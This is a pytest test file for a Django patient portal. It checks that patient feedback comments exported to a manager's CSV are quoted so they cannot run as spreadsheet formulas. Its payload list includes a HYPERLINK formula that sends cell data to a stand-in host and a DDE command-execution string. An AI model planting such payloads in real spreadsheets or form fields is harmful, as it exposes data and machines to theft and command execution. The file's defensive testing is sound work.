"""Issue 13, item 7: a patient's text never runs as a formula in the manager's spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from portal.accounts.roles import Role
from portal.accounts.tests.factories import enable_totp, user_with_role
from portal.core.spreadsheets import csv_safe
from portal.feedback.services import feedback_give
from portal.reports.tests.factories import completed_appointment

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("value", [*FORMULAS, "\tx", "\rx"])
def test_a_cell_starting_like_a_formula_is_quoted(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Great staff", "", 5, -3, None, "Quick = good"])
def test_other_cells_are_left_as_they_are(value):
    assert csv_safe(value) == value


@pytest.mark.django_db
def test_feedback_comments_csv_neutralises_formulas(client):
    for text in FORMULAS:
        patient = user_with_role(Role.PATIENT)
        feedback_give(appointment=completed_appointment(patient=patient), patient=patient, overall=4,
                      waiting_time=4, staff=5, recommend=9, comments=text)
    manager = user_with_role(Role.MANAGER)
    enable_totp(manager)
    client.force_login(manager)
    response = client.get(reverse("analytics:feedback") + "?csv=comments")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(row["comments"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert {row["rating"] for row in rows} == {"4"}  # numbers untouched
